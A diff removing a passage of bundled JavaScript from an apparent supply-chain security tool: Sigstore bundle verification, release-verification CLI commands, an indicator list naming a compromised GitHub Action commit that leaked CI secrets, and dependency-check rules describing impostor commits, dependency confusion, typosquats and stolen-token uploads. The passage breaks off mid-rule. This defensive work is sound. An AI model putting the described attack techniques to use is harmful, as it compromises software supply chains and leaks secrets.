-var core_dist = __nccwpck_require__(3917);
-// EXTERNAL MODULE: ./node_modules/@sigstore/protobuf-specs/dist/index.js
-var protobuf_specs_dist = __nccwpck_require__(9654);
-// EXTERNAL MODULE: ./node_modules/@sigstore/verify/dist/index.js
-var verify_dist = __nccwpck_require__(4187);
-// EXTERNAL MODULE: ./node_modules/@sigstore/tuf/seeds.json
-var seeds = __nccwpck_require__(8032);
-;// CONCATENATED MODULE: ./packages/core/src/sigstore/verify.ts
-// Sigstore bundle verification shared by sign-release (self-verification), the
-// CLI (`verify`, `verify-bundle`) and, for PEP 740 attestations, verify-deps.
-// It wraps @sigstore/verify and adds what the library leaves to its callers:
-// an exact identity match (the library's SAN policy is an unanchored regex, so
-// `…@refs/tags/v1.0.1` would accept `…@refs/tags/v1.0.10`), in-toto subjects
-// checked against the artifact (the library ignores the artifact for DSSE), and
-// a trusted root whose validity bounds are present (the library reads a
-// missing start as "since the beginning of time").
-
-
-
-
-
-
-
-const GITHUB_OIDC_ISSUER = 'https://token.actions.githubusercontent.com';
-const IN_TOTO_PAYLOAD_TYPE = 'application/vnd.in-toto+json';
-const PUBLIC_GOOD_MIRROR = 'https://tuf-repo-cdn.sigstore.dev';
-/** Why a bundle was rejected: one line, fit for a user. */
-class BundleVerificationError extends Error {
-    name = 'BundleVerificationError';
-}
-/**
- * Parses a trusted_root.json. Rejects what @sigstore/verify would silently
- * widen: a log, CA or TSA whose validity has no start (conformance case
- * trust-root-tlog-missing-validity-start_fail).
- */
-function verify_parseTrustedRoot(text, file = 'trusted root') {
-    let json;
-    try {
-        json = JSON.parse(text);
-    }
-    catch (e) {
-        throw new BundleVerificationError(`${file}: not valid JSON (${e.message})`);
-    }
-    if (!json || typeof json !== 'object' || Array.isArray(json))
-        throw new BundleVerificationError(`${file}: not a JSON object`);
-    const list = (k) => (Array.isArray(json[k]) ? json[k] : []);
-    for (const k of ['tlogs', 'ctlogs']) {
-        list(k).forEach((log, i) => {
-            const key = log.publicKey;
-            if (!key?.validFor?.start)
-                throw new BundleVerificationError(`${file}: ${k}[${i}] (${String(log.baseUrl ?? '')}) has no publicKey.validFor.start`);
-        });
-    }
-    for (const k of ['certificateAuthorities', 'timestampAuthorities']) {
-        list(k).forEach((ca, i) => {
-            if (!ca.validFor?.start)
-                throw new BundleVerificationError(`${file}: ${k}[${i}] (${String(ca.uri ?? '')}) has no validFor.start`);
-        });
-    }
-    try {
-        return protobuf_specs_dist.TrustedRoot.fromJSON(json);
-    }
-    catch (e) {
-        throw new BundleVerificationError(`${file}: not a Sigstore trusted root (${e.message})`);
-    }
-}
-async function readTrustedRoot(file) {
-    let text;
-    try {
-        text = await (0,promises_.readFile)(file, 'utf8');
-    }
-    catch (e) {
-        throw new BundleVerificationError(`${file}: cannot read the trusted root (${e.code ?? e.message})`);
-    }
-    return verify_parseTrustedRoot(text, file);
-}
-/**
- * The public-good trusted root shipped inside @sigstore/tuf: a snapshot from
- * the package's release, for offline use only (newer keys appear only in newer
- * package versions). Online callers should use `fetchTrustedRoot`.
- */
-function embeddedTrustedRoot() {
-    const seed = seeds[PUBLIC_GOOD_MIRROR];
-    return verify_parseTrustedRoot(Buffer.from(seed.targets['trusted_root.json'], 'base64').toString('utf8'), '@sigstore/tuf embedded trusted root');
-}
-/** The public-good trusted root, fetched and verified over TUF. */
-async function fetchTrustedRoot(cachePath) {
-    const { getTrustedRoot } = await Promise.all(/* import() */[__nccwpck_require__.e(830), __nccwpck_require__.e(694)]).then(__nccwpck_require__.bind(__nccwpck_require__, 4423));
-    try {
-        return (await getTrustedRoot({ cachePath }));
-    }
-    catch (e) {
-        // Offline and air-gapped runs end here; say what to do instead.
-        throw new Error(`could not fetch the Sigstore trusted root over TUF (${e.message}); give a trusted_root.json instead`);
-    }
-}
-/**
- * Why a certificate SAN is not a workflow of `want`, or undefined when it is.
- * Every part is compared exactly: a policy for tag v1.0.1 never accepts v1.0.10.
- */
-function githubIdentityProblem(san, want) {
-    const prefix = `https://github.com/${want.repository}/`;
-    if (!san?.startsWith(prefix))
-        return `certificate identity ${JSON.stringify(san)} is not a workflow of ${want.repository}`;
-    const rest = san.slice(prefix.length);
-    const at = rest.indexOf('@');
-    const [path, ref] = at < 0 ? [rest, ''] : [rest.slice(0, at), rest.slice(at + 1)];
-    if (!path.startsWith('.github/workflows/') || path.includes('..'))
-        return `certificate identity ${JSON.stringify(san)} is not a GitHub Actions workflow`;
-    if (want.workflow) {
-        const workflow = want.workflow.includes('/') ? want.workflow : `.github/workflows/${want.workflow}`;
-        if (path !== workflow)
-            return `signed by workflow ${path}, not ${workflow}`;
-    }
-    if (want.ref) {
-        const wantRef = want.ref.startsWith('refs/') ? want.ref : `refs/tags/${want.ref}`;
-        if (ref !== wantRef)
-            return `signed at ${ref}, not ${wantRef}`;
-    }
-    return undefined;
-}
-const escapeRegExp = (s) => s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
-/**
- * Verifies bundles against one trusted root. Build it once per run: the
- * trust material is prepared once and reused for every bundle.
- */
-class verify_BundleVerifier {
-    verifier;
-    constructor(root, key) {
-        let trust;
-        if (key) {
-            let publicKey;
-            try {
-                publicKey = core_dist.crypto.createPublicKey(key);
-            }
-            catch (e) {
-                throw new BundleVerificationError(`the public key is not a PEM public key (${e.message})`);
-            }
-            // The caller names the key, so every hint resolves to it.
-            trust = (0,verify_dist/* toTrustMaterial */.jO)(root, () => ({ publicKey, validFor: () => true }));
-        }
-        else {
-            trust = (0,verify_dist/* toTrustMaterial */.jO)(root);
-        }
-        this.verifier = new verify_dist/* Verifier */.BL(trust);
-    }
-    /** Verifies one bundle (parsed JSON); throws BundleVerificationError with the reason. */
-    verify(bundleJson, artifact, policy) {
-        let bundle;
-        try {
-            bundle = (0,bundle_dist/* bundleFromJSON */.vw)(bundleJson);
-        }
-        catch (e) {
-            throw new BundleVerificationError(`malformed bundle: ${firstLine(e)}`);
-        }
-        const kind = bundle.content.$case === 'dsseEnvelope' ? 'dsse' : 'message-signature';
-        let entity;
-        if ('bytes' in artifact) {
-            entity = (0,verify_dist/* toSignedEntity */.DC)(bundle, artifact.bytes);
-        }
-        else {
-            if (kind !== 'dsse')
-                throw new BundleVerificationError('a message-signature bundle is verified against the file itself, not a digest');
-            entity = (0,verify_dist/* toSignedEntity */.DC)(bundle);
-        }
-        let signer;
-        try {
-            signer = this.verifier.verify(entity, 'identity' in policy
-                ? { subjectAlternativeName: `^${escapeRegExp(policy.identity)}$`, extensions: { issuer: policy.issuer } }
-                : 'github' in policy
-                    ? {
-                        subjectAlternativeName: `^${escapeRegExp(`https://github.com/${policy.github.repository}/`)}`,
-                        extensions: { issuer: GITHUB_OIDC_ISSUER }
-                    }
-                    : 'oidcIssuer' in policy
-                        ? { extensions: { issuer: policy.oidcIssuer } }
-                        : undefined);
-        }
-        catch (e) {
-            throw new BundleVerificationError(firstLine(e));
-        }
-        const result = { kind, extensions: {} };
-        const leaf = leafCertificate(bundle);
-        if (leaf) {
-            result.identity = signer.identity?.subjectAlternativeName;
-            result.issuer = signer.identity?.extensions?.issuer;
-            result.extensions = fulcioExtensions(leaf);
-        }
-        if ('identity' in policy) {
-            // The library matched a regex; require equality ourselves.
-            if (result.identity !== policy.identity)
-                throw new BundleVerificationError(`certificate identity ${JSON.stringify(result.identity)} is not ${JSON.stringify(policy.identity)}`);
-            if (result.issuer !== policy.issuer)
-                throw new BundleVerificationError(`certificate issuer ${JSON.stringify(result.issuer)} is not ${JSON.stringify(policy.issuer)}`);
-        }
-        if ('oidcIssuer' in policy && (!leaf || result.issuer !== policy.oidcIssuer)) {
-            throw new BundleVerificationError(`certificate issuer ${JSON.stringify(result.issuer)} is not ${JSON.stringify(policy.oidcIssuer)}`);
-        }
-        if ('github' in policy) {
-            const problem = (result.issuer !== GITHUB_OIDC_ISSUER
-                ? `certificate issuer ${JSON.stringify(result.issuer)} is not ${GITHUB_OIDC_ISSUER}`
-                : undefined) ??
-                githubIdentityProblem(result.identity, policy.github) ??
-                // The source repository (caller) must be the same repository too.
-                (result.extensions['1.12'] !== undefined &&
-                    result.extensions['1.12'] !== `https://github.com/${policy.github.repository}`
-                    ? `built from ${result.extensions['1.12']}, not https://github.com/${policy.github.repository}`
-                    : undefined);
-            if (problem)
-                throw new BundleVerificationError(problem);
-        }
-        if (bundle.content.$case === 'dsseEnvelope') {
-            const env = bundle.content.dsseEnvelope;
-            const [alg, hex] = 'bytes' in artifact ? ['sha256', sha256Hex(artifact.bytes)] : parseDigest(artifact.digest);
-            if (env.payloadType !== IN_TOTO_PAYLOAD_TYPE)
-                throw new BundleVerificationError(`the DSSE payload type is ${env.payloadType}, not an in-toto statement that could name the artifact`);
-            const statement = parseStatement(env.payload);
-            if (!statement.subject.some((s) => s.digest?.[alg]?.toLowerCase() === hex))
-                throw new BundleVerificationError(`the artifact (${alg}:${hex}) is not a subject of the in-toto statement`);
-            result.statement = statement;
-        }
-        return result;
-    }
-}
-/** Checks that every file is a subject of the statement with its exact digest. */
-function checkSubjects(statement, files) {
-    const problems = [];
-    for (const f of files) {
-        const s = statement.subject.find((x) => x.name === f.name);
-        if (!s)
-            problems.push(`${f.name} is not a subject of the provenance`);
-        else if (s.digest?.sha256 !== f.sha256)
-            problems.push(`${f.name}: provenance digest sha256:${s.digest?.sha256} differs from the file's sha256:${f.sha256}`);
-    }
-    return problems;
-}
-function parseStatement(payload) {
-    let s;
-    try {
-        s = JSON.parse(payload.toString('utf8'));
-    }
-    catch {
-        throw new BundleVerificationError('the DSSE payload is not JSON');
-    }
-    if (!s || !Array.isArray(s.subject) || typeof s.predicateType !== 'string')
-        throw new BundleVerificationError('the DSSE payload is not an in-toto statement');
-    return s;
-}
-function sha256Hex(data) {
-    return (0,external_node_crypto_.createHash)('sha256').update(data).digest('hex');
-}
-function parseDigest(d) {
-    const m = /^(sha256|sha512):([0-9a-f]+)$/i.exec(d.trim());
-    const [alg, hex] = m ? [m[1].toLowerCase(), m[2].toLowerCase()] : ['', ''];
-    if (!m || hex.length !== (alg === 'sha256' ? 64 : 128))
-        throw new BundleVerificationError(`not a digest of the form sha256:HEX or sha512:HEX: ${d}`);
-    return [alg, hex];
-}
-function leafCertificate(bundle) {
-    const vm = bundle.verificationMaterial.content;
-    if (vm.$case === 'certificate')
-        return core_dist.X509Certificate.parse(vm.certificate.rawBytes);
-    if (vm.$case === 'x509CertificateChain') {
-        const first = vm.x509CertificateChain.certificates[0];
-        return first && core_dist.X509Certificate.parse(first.rawBytes);
-    }
-    return undefined;
-}
-/** Fulcio's v2 extensions (DER UTF8Strings) by short OID, e.g. `1.12` → `https://github.com/org/repo`. */
-function fulcioExtensions(cert) {
-    const out = {};
-    for (let n = 8; n <= 22; n++) {
-        const ext = cert.extension(`1.3.6.1.4.1.57264.1.${n}`);
-        const value = ext?.valueObj.subs[0]?.value;
-        if (value)
-            out[`1.${n}`] = value.toString('utf8');
-    }
-    return out;
-}
-function firstLine(e) {
-    const err = e;
-    const msg = (err?.message ?? String(e)).split('\n')[0];
-    return err?.code && !msg.includes(err.code) ? `${err.code}: ${msg}` : msg;
-}
-
-;// CONCATENATED MODULE: ./packages/cli/src/progress.ts
-function progress(io, mode) {
-    const after = io.progressAfterMs ?? 1000;
-    let label = '';
-    let last = '';
-    let started = 0;
-    let shown = false;
-    let delay;
-    let ticker;
-    const seconds = () => `${((Date.now() - started) / 1000).toFixed(1)} s`;
-    const tick = () => io.status?.(`${label}: running… ${seconds()}${last ? `  ${last}` : ''}`);
-    return {
-        start(l) {
-            if (mode === 'quiet')
-                return;
-            [label, last, started, shown] = [l, '', Date.now(), mode === 'verbose'];
-            if (shown)
-                io.err(`${label}: running…`);
-            delay = setTimeout(() => {
-                if (shown && !io.status)
-                    return;
-                shown = true;
-                if (!io.status)
-                    return io.err(`${label}: running…`);
-                tick();
-                ticker = setInterval(tick, 250);
-            }, after);
-        },
-        message(m) {
-            if (m.startsWith(`${label}: `))
-                m = m.slice(label.length + 2);
-            last = m.split('\n')[0].slice(0, 100);
-            if (mode !== 'verbose')
-                return;
-            io.status?.('');
-            io.err(`${label}: ${m}`);
-        },
-        stop() {
-            clearTimeout(delay);
-            clearInterval(ticker);
-            if (!shown)
-                return;
-            io.status?.('');
-            io.err(`${label}: done in ${seconds()}`);
-        }
-    };
-}
-
-;// CONCATENATED MODULE: ./packages/cli/src/commands/verify.ts
-// `verify`: check release files against their `<file>.sigstore.json` bundles,
-// signed by a GitHub Actions workflow of one repository. The identity is
-// derived from --repo (and --workflow, --ref when given) and every part of it
-// is compared exactly.
-
-
-
-
-
-const verify = {
-    summary: 'verify release files against their Sigstore bundles (signed by a workflow of --repo)',
-    usage: 'FILE... --repo OWNER/REPO [--workflow PATH] [--ref REF] [--bundle-dir DIR] [--trusted-root FILE] [--offline]',
-    positionals: true,
-    options: {
-        repo: { type: 'string', value: 'OWNER/REPO', help: 'the repository whose workflow signed the files (required)' },
-        workflow: {
-            type: 'string',
-            value: 'PATH',
-            help: 'the signing workflow, e.g. .github/workflows/release.yml (default: any workflow of the repo)'
-        },
-        ref: { type: 'string', value: 'REF', help: 'the ref it ran at, e.g. refs/tags/v1.0.0 or v1.0.0 (default: any)' },
-        'bundle-dir': {
-            type: 'string',
-            value: 'DIR',
-            help: 'where the <file>.sigstore.json bundles are (default: beside each file)'
-        },
-        'trusted-root': {
-            type: 'string',
-            value: 'FILE',
-            help: 'a trusted_root.json (default: the public-good root over TUF)'
-        },
-        offline: { type: 'boolean', help: 'use the public-good root embedded in this tool instead of TUF' },
-        ...HELP_OPTION
-    },
-    notes: ['Exit status: 0 every file verified; 1 a file did not verify; 2 a usage error.'],
-    async run(values, io) {
-        const files = values._ ?? [];
-        const repository = typeof values.repo === 'string' ? values.repo : '';
-        if (!files.length || !/^[^/\s]+\/[^/\s]+$/.test(repository)) {
-            io.err('verify: give one or more FILEs and --repo OWNER/REPO');
-            return 2;
-        }
-        const str = (k) => (typeof values[k] === 'string' ? values[k] : undefined);
-        const at = (p) => (0,external_node_path_.resolve)(io.cwd, p);
-        let verifier;
-        const p = progress(io, 'normal');
-        p.start('verify: the trusted root');
-        try {
-            const root = str('trusted-root')
-                ? await readTrustedRoot(at(str('trusted-root')))
-                : values.offline
-                    ? embeddedTrustedRoot()
-                    : await fetchTrustedRoot();
-            verifier = new verify_BundleVerifier(root);
-        }
-        catch (e) {
-            io.err(`verify: ${e.message.split('\n')[0]}`);
-            return 1;
-        }
-        finally {
-            p.stop();
-        }
-        const policy = { github: { repository, workflow: str('workflow'), ref: str('ref') } };
-        let failed = 0;
-        for (const file of files) {
-            const bundlePath = str('bundle-dir')
-                ? (0,external_node_path_.join)(at(str('bundle-dir')), `${(0,external_node_path_.basename)(file)}.sigstore.json`)
-                : `${at(file)}.sigstore.json`;
-            try {
-                const bytes = await read(at(file));
-                const bundle = JSON.parse((await read(bundlePath)).toString('utf8'));
-                const v = verifier.verify(bundle, { bytes }, policy);
-                io.out(`OK ${file}: signed by ${v.identity}\n`);
-            }
-            catch (e) {
-                failed++;
-                io.err(`FAILED ${file}: ${e instanceof BundleVerificationError ? e.message : e.message.split('\n')[0]}`);
-            }
-        }
-        return failed ? 1 : 0;
-    }
-};
-async function read(file) {
-    try {
-        return await (0,promises_.readFile)(file);
-    }
-    catch (e) {
-        throw new BundleVerificationError(`cannot read ${file} (${e.code ?? e.message})`);
-    }
-}
-
-;// CONCATENATED MODULE: ./packages/cli/src/commands/verify-bundle.ts
-// `verify-bundle`: the sigstore-conformance client protocol's verify-bundle
-// command. Exit status 0 only when the bundle verifies for the artifact and
-// the signer policy; 1 when it does not; 2 for usage errors.
-
-
-
-
-
-const verifyBundle = {
-    summary: 'verify one Sigstore bundle (sigstore-conformance protocol)',
-    usage: '--bundle FILE (--certificate-identity ID --certificate-oidc-issuer URL | --key PEM) [--trusted-root FILE] [--offline] FILE_OR_DIGEST',
-    positionals: true,
-    options: {
-        bundle: { type: 'string', value: 'FILE', help: 'the bundle (.sigstore.json)' },
-        'certificate-identity': { type: 'string', value: 'ID', help: 'the exact certificate SAN expected' },
-        'certificate-oidc-issuer': { type: 'string', value: 'URL', help: 'the exact OIDC issuer expected' },
-        key: { type: 'string', value: 'PEM', help: 'a PEM public key file (managed-key bundles)' },
-        'trusted-root': {
-            type: 'string',
-            value: 'FILE',
-            help: 'a trusted_root.json (default: the public-good root over TUF)'
-        },
-        staging: { type: 'boolean', help: "Sigstore's staging instance (needs --trusted-root in this version)" },
-        offline: { type: 'boolean', help: 'use the public-good root embedded in this tool instead of TUF' },
-        ...HELP_OPTION
-    },
-    notes: ['Exit status: 0 the bundle verifies; 1 it does not; 2 a usage error.'],
-    async run(values, io) {
-        // Fetching the trusted root over TUF can take a while: progress on stderr, as for every slow command.
-        const p = progress(io, 'normal');
-        p.start('verify-bundle');
-        const r = await verifyBundleCommand(values, io).finally(() => p.stop());
-        if (r.ok)
-            io.out(`OK: ${r.message}\n`);
-        else
-            io.err(`verify-bundle: ${r.message}`);
-        return r.code;
-    }
-};
-async function verifyBundleCommand(values, io) {
-    const usage = (message) => ({ ok: false, code: 2, message });
-    const str = (k) => (typeof values[k] === 'string' ? values[k] : undefined);
-    const positional = values._ ?? [];
-    if (positional.length !== 1)
-        return usage('give exactly one FILE_OR_DIGEST');
-    const bundlePath = str('bundle');
-    if (!bundlePath)
-        return usage('--bundle is required');
-    const identity = str('certificate-identity');
-    const issuer = str('certificate-oidc-issuer');
-    const keyPath = str('key');
-    if (keyPath ? identity || issuer : !(identity && issuer))
-        return usage('give --certificate-identity and --certificate-oidc-issuer, or --key');
-    const rootPath = str('trusted-root');
-    if (values.staging && !rootPath)
-        return usage('--staging needs --trusted-root (the staging root is not embedded in this version)');
-    const at = (p) => (0,external_node_path_.resolve)(io.cwd, p);
-    try {
-        const root = rootPath
-            ? await readTrustedRoot(at(rootPath))
-            : values.offline
-                ? embeddedTrustedRoot()
-                : await fetchTrustedRoot();
-        const key = keyPath ? await readText(at(keyPath), 'public key') : undefined;
-        const bundle = parseJson(await readText(at(bundlePath), 'bundle'), bundlePath);
-        const target = positional[0];
-        const artifact = /^sha(256|512):/i.test(target)
-            ? { digest: target }
-            : { bytes: await readBytes(at(target)), name: target };
-        const policy = key ? { key } : { identity: identity, issuer: issuer };
-        const v = new verify_BundleVerifier(root, key).verify(bundle, artifact, policy);
-        return {
-            ok: true,
-            code: 0,
-            message: `${bundlePath} verified${v.identity ? ` (signed by ${v.identity}, issuer ${v.issuer})` : ' (managed key)'}`
-        };
-    }
-    catch (e) {
-        const msg = e instanceof BundleVerificationError ? e.message : e.message.split('\n')[0];
-        return { ok: false, code: 1, message: `${bundlePath}: ${msg}` };
-    }
-}
-async function readText(file, what) {
-    return (await readBytes(file, what)).toString('utf8');
-}
-async function readBytes(file, what = 'artifact') {
-    try {
-        return await (0,promises_.readFile)(file);
-    }
-    catch (e) {
-        throw new BundleVerificationError(`cannot read the ${what} ${file} (${e.code ?? e.message})`);
-    }
-}
-function parseJson(text, file) {
-    try {
-        return JSON.parse(text);
-    }
-    catch (e) {
-        throw new BundleVerificationError(`${file} is not valid JSON (${e.message})`);
-    }
-}
-
-;// CONCATENATED MODULE: ./actions/verify-deps/src/iocs.ts
-const ACTION_IOCS = [
-    {
-        repo: 'tj-actions/changed-files',
-        sha: '0e58ed8671d6b60d0890c21b07f8835ace038e67',
-        what: "the commit every tag of tj-actions/changed-files pointed to on 14-15 March 2025; it printed the runner's secrets into the build log (CVE-2025-30066)",
-        reference: 'https://github.com/advisories/GHSA-mrrh-fwg8-r2c3'
-    }
-];
-function findIoc(owner, repo, sha) {
-    const name = `${owner}/${repo}`.toLowerCase();
-    return ACTION_IOCS.find((i) => i.repo === name && i.sha === sha.toLowerCase());
-}
-
-;// CONCATENATED MODULE: ./actions/verify-deps/src/rules.ts
-// Rules of verify-deps. Ids are stable: configs and code-scanning alerts refer to them.
-
-const TJ_ACTIONS = {
-    title: 'tj-actions/changed-files compromise (CVE-2025-30066)',
-    url: 'https://github.com/advisories/GHSA-mrrh-fwg8-r2c3'
-};
-const PIP_HASHES = {
-    title: 'pip: secure installs (hash-checking mode)',
-    url: 'https://pip.pypa.io/en/stable/topics/secure-installs/'
-};
-const PEP_740 = { title: 'PEP 740: index support for digital attestations', url: 'https://peps.python.org/pep-0740/' };
-const src_rules_RULES = defineRules({
-    UNPINNED_ACTION: {
-        id: 'actions/unpinned',
-        title: 'Action not pinned to a full commit SHA',
-        severity: 'high',
-        why: 'A tag or branch can be moved to new code by whoever controls the action repository; in the tj-actions/changed-files compromise every tag was repointed at a commit that dumped CI secrets into the logs. Only a full 40-character commit SHA is immutable.',
-        remediation: 'Replace the ref with the full commit SHA it resolves to and keep the version as a trailing comment, e.g. `uses: actions/checkout@<40-hex-sha> # v4.2.2`. Tools such as Dependabot (github-actions ecosystem) keep such pins and comments current.',
-        spec: ['S8-9'],
-        references: [TJ_ACTIONS]
-    },
-    UNPINNED_DOCKER: {
-        id: 'actions/docker-unpinned',
-        title: 'Docker action image not pinned to a digest',
-        severity: 'high',
-        why: 'A `docker://` image tag can be re-pushed with different content; only an `@sha256:` digest names one image.',
-        remediation: 'Pin the image by digest: `uses: docker://owner/image@sha256:<digest>`.',
-        spec: ['S8-9']
-    },
-    NO_VERSION_COMMENT: {
-        id: 'actions/no-version-comment',
-        title: 'SHA-pinned action without a version comment',
-        severity: 'low',
-        why: 'Without the version beside the SHA a reviewer cannot tell which release is pinned, and Dependabot cannot keep the comment current, so outdated or unexpected commits go unnoticed.',
-        remediation: 'Add the release the SHA belongs to as a trailing comment: `uses: owner/repo@<sha> # v1.2.3`.',
-        spec: ['S8-9', 'S8-10']
-    },
-    VERSION_MISMATCH: {
-        id: 'actions/version-mismatch',
-        title: 'Version comment does not match the pinned SHA',
-        severity: 'medium',
-        why: 'Reviewers and Dependabot trust the comment; a comment naming a release the SHA is not (pinact documents a `# v3.5.1` that was really v2.7.0) hides which code runs, and is a way to slip a different commit past review.',
-        remediation: 'Resolve the tag named in the comment and pin its commit, or correct the comment to the release the SHA belongs to.',
-        spec: ['S8-9', 'S8-10']
-    },
-    IMPOSTOR_COMMIT: {
-        id: 'actions/impostor-commit',
-        title: 'Pinned commit is not in the named action repository',
-        severity: 'critical',
-        why: "GitHub serves a commit pushed to any fork under the parent repository's name, so `owner/action@<sha>` can run code the owner never published. A commit reachable from none of the repository's branches or tags is such an impostor (or was force-pushed away).",
-        remediation: 'Pin a commit that a branch or release tag of the action repository contains: resolve the release tag you want (`git ls-remote https://github.com/owner/repo refs/tags/v1.2.3`) and use that SHA.',
-        spec: ['S8-9'],
-        references: [{ title: 'zizmor: impostor-commit', url: 'https://docs.zizmor.sh/audits/#impostor-commit' }]
-    },
-    COMPROMISED_ACTION: {
-        id: 'actions/compromised',
-        title: 'Known-compromised action commit or version',
-        severity: 'critical',
-        why: 'This commit or release is listed as malicious (an indicator of compromise or a security advisory): running it can leak every secret the job can read.',
-        remediation: 'Pin a clean release (see the advisory), rotate every secret the workflows that ran it could read, and review their logs for leaked values.',
-        spec: ['S8-9'],
-        references: [TJ_ACTIONS]
-    },
-    VULNERABLE_ACTION: {
-        id: 'actions/vulnerable',
-        title: 'Action version with a known vulnerability',
-        severity: 'high',
-        why: 'An advisory in the GitHub Actions ecosystem covers the release this reference pins.',
-        remediation: 'Update to a fixed release (see the advisory) and pin its commit SHA.',
-        spec: ['S8-9']
-    },
-    NESTED_UNPINNED: {
-        id: 'actions/nested-unpinned',
-        title: 'Pinned composite action uses an unpinned action',
-        severity: 'high',
-        why: "Pinning the outer action does not pin what it runs: a composite action's own `uses:` on a tag moves with that tag. The tj-actions compromise started this way, through an unpinned `reviewdog/action-setup@v1` inside another action.",
-        remediation: 'Ask the action maintainers to pin their nested actions by SHA, or replace the action with one that does (or vendor its steps).',
-        spec: ['S8-9'],
-        references: [
-            {
-                title: 'reviewdog/action-setup compromise (CVE-2025-30154)',
-                url: 'https://github.com/advisories/GHSA-qmg3-hpqr-gqvc'
-            }
-        ]
-    },
-    PY_UNPINNED: {
-        id: 'python/unpinned',
-        title: 'Python dependency not pinned to an exact version',
-        severity: 'medium',
-        why: 'A range lets every install pick whatever is newest on the index at that moment, including a release published by an attacker minutes earlier; builds are neither reproducible nor reviewable.',
-        remediation: 'Pin with `==` in a lock or requirements file generated by a resolver (`uv lock`, `pip-compile --generate-hashes`, `uv export`), and keep ranges only in `pyproject.toml`.',
-        spec: ['S8-9']
-    },
-    PY_MISSING_HASHES: {
-        id: 'python/missing-hashes',
-        title: 'Python dependency without hashes',
-        severity: 'medium',
-        why: "Without a hash the index (or anyone who can write to it) can serve different bytes for the same version. pip's hash-checking mode is all-or-nothing: once any requirement has `--hash`, every one must, or the install fails.",
-        remediation: 'Generate hashes for every file: `pip-compile --generate-hashes`, `uv pip compile --generate-hashes` or `uv export`; lock files from uv and Poetry record them.',
-        spec: ['S8-9'],
-        references: [PIP_HASHES]
-    },
-    PY_VCS_UNPINNED: {
-        id: 'python/vcs-unpinned',
-        title: 'VCS dependency not pinned to a full commit',
-        severity: 'high',
-        why: 'A branch or tag in a git URL can be moved by whoever controls that repository; only a full commit id names fixed code.',
-        remediation: 'Use the full 40-character commit: `pkg @ git+https://github.com/owner/repo@<sha>`.',
-        spec: ['S8-9']
-    },
-    PY_URL_DEPENDENCY: {
-        id: 'python/url-dependency',
-        title: 'URL or local path dependency without a pin',
-        severity: 'medium',
-        why: 'An archive URL without a hash can change under you, and a path dependency installs whatever is on disk; neither is checked against an index or an advisory database.',
-        remediation: 'Publish the package to an index and pin it, or add `--hash=sha256:...` to the URL requirement (`#sha256=` in the URL for pip).',
-        spec: ['S8-9']
-    },
-    PY_EXTRA_INDEX: {
-        id: 'python/extra-index-url',
-        title: 'Extra package index (dependency confusion)',
-        severity: 'high',
-        why: 'pip merges all indexes and takes the highest version from any of them: anyone can publish a package with the name of a private one on PyPI and it wins (dependency confusion, as in the 2022 PyTorch `torchtriton` attack).',
-        remediation: 'Use a single `--index-url` that proxies PyPI, or pin every package with hashes; with uv, declare the index with `explicit = true` and map packages to it.',
-        spec: ['S8-9'],
-        references: [
-            {
-                title: 'PyTorch torchtriton dependency confusion',
-                url: 'https://pytorch.org/blog/compromised-nightly-dependency/'
-            }
-        ]
-    },
-    PY_NO_LOCK: {
-        id: 'python/no-lock',
-        title: 'Python project without a lock file',
-        severity: 'low',
-        why: 'Without a lock, the versions installed in CI and releases are whatever the resolver picks that day, so neither a review nor an advisory check covers what actually ran.',
-        remediation: 'Commit a lock (`uv lock`, `poetry lock`, `pip-compile --generate-hashes`, or a PEP 751 `pylock.toml`) and install from it in CI and release jobs.',
-        spec: ['S8-9']
-    },
-    PY_VULNERABLE: {
-        id: 'python/vulnerable',
-        title: 'Python dependency with a known vulnerability',
-        severity: 'high',
-        why: 'An advisory in OSV covers the pinned version.',
-        remediation: 'Update to a fixed version (see the advisory), or record in the policy why the vulnerable code is not reachable, with an expiry date.',
-        spec: ['S8-9']
-    },
-    PY_MALICIOUS: {
-        id: 'python/malicious',
-        title: 'Known malicious Python package',
-        severity: 'critical',
-        why: "OSV lists this package version as malware (a `MAL-` record): installing it runs the attacker's code.",
-        remediation: 'Remove it, check every machine that installed it for compromise, and rotate the credentials those machines held.',
-        spec: ['S8-9'],
-        references: [{ title: 'OpenSSF malicious packages', url: 'https://github.com/ossf/malicious-packages' }]
-    },
-    PY_YANKED: {
-        id: 'python/yanked',
-        title: 'Pinned release was yanked',
-        severity: 'medium',
-        why: 'The maintainers withdrew this release from PyPI, usually because it is broken or unsafe (the compromised Ultralytics releases were yanked).',
-        remediation: 'Move to a release that is not yanked; read the yank reason first.',
-        spec: ['S8-9']
-    },
-    PY_PROVENANCE_MISSING: {
-        id: 'python/provenance-missing',
-        title: 'Locked file has no PEP 740 provenance',
-        severity: 'info',
-        why: 'Without provenance there is no signed link between the file on PyPI and the source repository and workflow that built it; adoption is still partial, so this is informational unless the policy requires it.',
-        remediation: 'Ask the maintainers to publish with Trusted Publishing and attestations (pypa/gh-action-pypi-publish does it by default), or accept the gap with an ignore.',
-        spec: ['S8-9'],
-        references: [PEP_740]
-    },
-    PY_PROVENANCE_INVALID: {
-        id: 'python/provenance-invalid',
-        title: 'PEP 740 provenance does not verify',
-        severity: 'critical',
-        why: 'The attestation PyPI serves for this file does not verify against Sigstore or does not name this exact file: the file or its provenance was tampered with.',
-        remediation: 'Do not install this file. Compare its digest with the lock, report it to the maintainers and to PyPI security.',
-        spec: ['S8-9'],
-        references: [PEP_740]
-    },
-    PY_PUBLISHER_MISMATCH: {
-        id: 'python/publisher-mismatch',
-        title: 'Trusted Publisher differs from the expected one',
-        severity: 'high',
-        why: 'The file was published from a repository, workflow or environment other than the one the policy (or the pylock attestation identities) expects: a takeover or a new, unreviewed release path.',
-        remediation: 'Confirm the change with the maintainers; then update the expected publisher in the policy or the lock.',
-        spec: ['S8-9']
-    },
-    PY_PROVENANCE_REGRESSION: {
-        id: 'python/provenance-regression',
-        title: 'Release lost the provenance its predecessor had',
-        severity: 'high',
-        why: 'The previous release was published with attestations and this one was not: the pattern of a stolen API token used to upload outside the trusted workflow (Ultralytics 8.3.45 and 8.3.46).',
-        remediation: 'Hold the update until the maintainers confirm the release; pin the previous release meanwhile.',
-        spec: ['S8-9'],
-        references: [{ title: 'Ultralytics compromise', url: 'https://github.com/ultralytics/ultralytics/issues/18027' }]
-    },
-    PY_TYPOSQUAT: {
-        id: 'python/typosquat',
-        title: 'Dependency name one typo from a popular package',
-        severity: 'high',
-        why: 'Attackers publish packages whose names are one keystroke from popular ones and wait for a typo in a requirements file; the install then runs their code.',
